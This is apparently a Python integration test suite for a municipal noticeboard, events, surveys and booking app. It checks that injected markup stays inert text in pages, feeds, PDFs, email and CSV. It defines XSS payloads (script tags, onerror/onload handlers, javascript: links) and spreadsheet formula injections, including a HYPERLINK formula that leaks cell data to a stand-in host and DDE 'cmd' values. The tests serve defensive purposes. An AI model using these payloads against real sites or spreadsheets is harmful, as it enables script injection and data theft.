"""Markup that residents, staff or other systems type never executes (issue #8).

`<script>`, `<img src=x onerror=…>`, `"><svg onload=…>` and `javascript:` links in a notice
(noticeboard page, kiosk, Atom feed, poster, HTML email through a real SMTP server), an event
(page, list, iCalendar, Atom), a survey's free-text answer (staff results page, CSV, where a
formula `=HYPERLINK(…)` must not run either) and a booking's purpose (staff requests page).

In real Chromium: no dialog opens, no injected element or handler is in the DOM, no link
leads to `javascript:`, and the text shows literally.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import uuid
import xml.etree.ElementTree as ET
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import aio_pika
import httpx
import pytest
from icalendar import Calendar
from pypdf import PdfReader
from support.browser import serve_app
from support.settings import TEST_ADMIN_TOKEN, make_settings, wait_until

from shared.models import utcnow

pytestmark = pytest.mark.integration
STAFF = {"Authorization": f"Bearer {TEST_ADMIN_TOKEN}"}

SCRIPT = "<script>alert('s')</script>"
IMG = "<img src=x onerror=alert('i')>"
SVG = "\"><svg onload=alert('v')>"
JS_LINK = "<a href=\"javascript:alert('a')\">klik</a>"
MD_LINK = "[poglej](javascript:alert('m'))"
TITLE = f"Izklop {IMG}{SVG}"  # a notice title has at most 120 characters
BODY = f"Voda {SCRIPT} {IMG} {SVG} {JS_LINK} {MD_LINK} konec."
LITERALS = (IMG, "<svg onload=")  # what the resident must see as text

INJECTED_JS = """() => {
    const all = [...document.querySelectorAll('*')];
    const handlers = all.filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on')));
    const jsUrls = all.filter(e => ['href', 'src', 'action', 'formaction', 'xlink:href'].some(
        n => (e.getAttribute(n) || '').replace(/\\s/g, '').toLowerCase().startsWith('javascript:')));
    return {
        scripts: [...document.scripts].filter(s => s.textContent.includes('alert(')).length,
        handlers: handlers.map(e => e.outerHTML.slice(0, 120)),
        jsUrls: jsUrls.map(e => e.outerHTML.slice(0, 120)),
        images: document.querySelectorAll('img[src="x"]').length,
    };
}"""


async def assert_inert(context: Any, url: str, *, literals: tuple[str, ...] = LITERALS) -> str:
    """Open `url` in Chromium; nothing injected runs or exists; the markup shows as text."""
    page = await context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), asyncio.ensure_future(dialog.dismiss())))
    response = await page.goto(url)
    assert response is not None and response.ok, f"{url}: {response and response.status}"
    await page.wait_for_load_state("networkidle")
    found = await page.evaluate(INJECTED_JS)
    assert found == {"scripts": 0, "handlers": [], "jsUrls": [], "images": 0}, f"{url}: {found}"
    text = await page.locator("body").inner_text()
    for literal in literals:
        assert literal in text, f"{url}: {literal!r} not shown as text"
    assert dialogs == [], f"{url}: a dialog opened: {dialogs}"
    await page.close()
    return text


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.js_urls: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in ("href", "src", "action") and (value or "").replace(" ", "").lower().startswith("javascript:"):
                self.js_urls.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert_html(html: str) -> str:
    parsed = _Tags()
    parsed.feed(html)
    assert "script" not in parsed.tags and "svg" not in parsed.tags, parsed.tags
    assert parsed.handlers == [] and parsed.js_urls == [], (parsed.handlers, parsed.js_urls)
    text = "".join(parsed.text)
    for literal in LITERALS:
        assert literal in text, f"{literal!r} not in the text"
    return text


def assert_atom_inert(xml: bytes, title: str) -> None:
    """The feed is well-formed XML whose title is the literal text; no element came from markup."""
    root = ET.fromstring(xml)
    atom = "{http://www.w3.org/2005/Atom}"
    titles = [e.text for e in root.iter(f"{atom}title")]
    assert title in titles, titles
    assert not [e.tag for e in root.iter() if e.tag.split("}")[-1] in ("script", "img", "svg")]


# --------------------------------------------------------------------------------------
# notify: noticeboard, kiosk, Atom, poster, HTML email
# --------------------------------------------------------------------------------------
async def test_a_notice_full_of_markup_is_shown_and_mailed_as_text(tmp_path, amqp_url, browser, smtp_server):
    from services.notify.app import create_app

    app = create_app(make_settings(tmp_path, amqp_url, **smtp_server.settings()))
    async with serve_app(app) as base, httpx.AsyncClient(base_url=base, headers=STAFF) as api:
        subscribed = await api.post(
            "/api/v1/subscribers",
            json={"email": "ana@example.si", "ks": ["primskovo"], "topics": ["general"], "channels": ["email"]},
        )
        assert subscribed.status_code == 201, subscribed.text
        event = {
            "specversion": "1.0",
            "id": str(uuid.uuid4()),
            "source": "/komunala-kranj/outages",
            "type": "si.kranj.notify.notice.requested.v1",
            "data": {"title": TITLE, "body": BODY, "ks": ["primskovo"]},
        }
        connection = await aio_pika.connect(amqp_url)
        async with connection:
            channel = await connection.channel(publisher_confirms=True)
            exchange = await channel.get_exchange("kranj", ensure=False)
            await exchange.publish(
                aio_pika.Message(json.dumps(event).encode(), delivery_mode=2), routing_key="notify.notice.requested"
            )

        async def on_board() -> str | None:
            feed = await api.get("/noticeboard/primskovo/feed.atom")
            return feed.content if TITLE.replace("&", "&amp;").replace("<", "&lt;")[:20] in feed.text else None

        feed = await wait_until(on_board, timeout=20, message="the notice on the noticeboard")
        assert_atom_inert(feed, TITLE)

        context = await browser.new_context()
        await assert_inert(context, f"{base}/noticeboard/primskovo")
        await assert_inert(context, f"{base}/noticeboard/primskovo/kiosk?refresh=off", literals=(IMG,))
        await assert_inert(context, f"{base}/noticeboard")

        from services.notify import notices

        [notice] = await notices.noticeboard(app.state.ctx.db, "primskovo")
        poster = await api.get(f"/noticeboard/notices/{notice.id}/poster.pdf")
        assert poster.status_code == 200 and poster.content.startswith(b"%PDF")
        pdf_text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(poster.content)).pages)
        assert "onerror=alert" in pdf_text.replace("\n", " "), pdf_text[:400]

        [mail] = await smtp_server.wait_for(1, timeout=20)
        html = mail.part("text/html")
        assert html is not None
        assert_inert_html(html)
        text = mail.part("text/plain") or ""
        assert IMG in text  # plain text is plain text


# --------------------------------------------------------------------------------------
# events: page, list, iCalendar, Atom
# --------------------------------------------------------------------------------------
async def test_an_event_full_of_markup_is_shown_as_text(tmp_path, amqp_url, browser):
    from services.events.app import create_app

    app = create_app(make_settings(tmp_path, amqp_url))
    start = (utcnow() + timedelta(days=5)).replace(hour=16, minute=0, second=0, microsecond=0)
    title = f"Delavnica {SCRIPT} {IMG} {SVG}"
    async with serve_app(app) as base, httpx.AsyncClient(base_url=base, headers=STAFF) as api:
        created = await api.post(
            "/api/v1/events",
            json={
                "ks": "primskovo",
                "title": title,
                "description": BODY,
                "starts_at": start.isoformat(),
                "ends_at": (start + timedelta(hours=2)).isoformat(),
                "venue": f"Dom KS {IMG}",
            },
        )
        assert created.status_code == 201, created.text
        event_id = created.json()["id"]
        published = await api.post(f"/api/v1/events/{event_id}/publish")
        assert published.status_code == 200, published.text

        context = await browser.new_context()
        text = await assert_inert(context, f"{base}/events/{event_id}")
        assert SCRIPT in text
        await assert_inert(context, f"{base}/events?ks=primskovo")

        ics = await api.get("/events/ks/primskovo/calendar.ics")
        assert ics.status_code == 200
        [vevent] = [c for c in Calendar.from_ical(ics.content).walk("VEVENT")]
        assert str(vevent["SUMMARY"]) == title  # iCalendar is text: kept literally, never markup
        atom = await api.get("/events/feed.atom", params={"ks": "primskovo"})
        assert atom.status_code == 200
        assert_atom_inert(atom.content, title)


# --------------------------------------------------------------------------------------
# surveys: a free-text answer on the staff results page and in the CSV
# --------------------------------------------------------------------------------------
async def test_a_survey_answer_full_of_markup_or_formulas_stays_text(tmp_path, amqp_url, browser):
    from services.surveys.app import create_app

    app = create_app(make_settings(tmp_path, amqp_url))
    formula = '=HYPERLINK("http://napad.example/?"&A1,"Klikni")'
    answer = f"Prostor za mlade {SCRIPT} {IMG} {SVG} {JS_LINK}"
    async with serve_app(app) as base, httpx.AsyncClient(base_url=base, headers=STAFF) as api:
        sid = (await api.post("/api/v1/surveys", json={"template": "needs-assessment", "ks": "primskovo"})).json()["id"]
        assert (await api.post(f"/api/v1/surveys/{sid}/open")).status_code == 200
        for text in (answer, formula, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"):
            response = await api.post(
                f"/api/v1/surveys/{sid}/responses",
                json={"answers": {"need": "yes", "what": ["youth"], "existing": text}},
                headers={"Authorization": ""},
            )
            assert response.status_code == 201, response.text

        context = await browser.new_context(extra_http_headers=STAFF)
        shown = await assert_inert(context, f"{base}/surveys/{sid}/staff")
        assert formula in shown and SCRIPT in shown

        exported = await api.get(f"/api/v1/surveys/{sid}/results.csv")
        assert exported.status_code == 200, exported.text
        cells = [cell for row in csv.reader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";") for cell in row]
        assert any(formula in cell for cell in cells), "the answer is in the CSV"
        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == [], f"cells a spreadsheet would run as formulas: {dangerous}"
        assert f"'{formula}" in cells


# --------------------------------------------------------------------------------------
# booking: the purpose of a request on the staff page
# --------------------------------------------------------------------------------------
async def test_a_booking_purpose_full_of_markup_is_shown_as_text_to_staff(tmp_path, amqp_url, browser):
    from booking_helpers import future_day, local

    from services.booking.app import create_app

    app = create_app(make_settings(tmp_path, amqp_url))
    day = future_day(4)
    purpose = f"Vaje {SCRIPT} {IMG} {SVG}"
    async with serve_app(app) as base, httpx.AsyncClient(base_url=base) as api:
        created = await api.post(
            "/api/v1/bookings",
            json={
                "room_id": "ks-primskovo",
                "starts_at": local(day, "18:00").isoformat(),
                "ends_at": local(day, "20:00").isoformat(),
                "purpose": purpose,
                "name": f"Mojca {IMG}",
                "email": "mojca@example.si",
                "attendees": 5,
            },
        )
        assert created.status_code == 201, created.text
        context = await browser.new_context(extra_http_headers=STAFF)
        text = await assert_inert(context, f"{base}/rooms/osebje/prosnje")
        assert SCRIPT in text
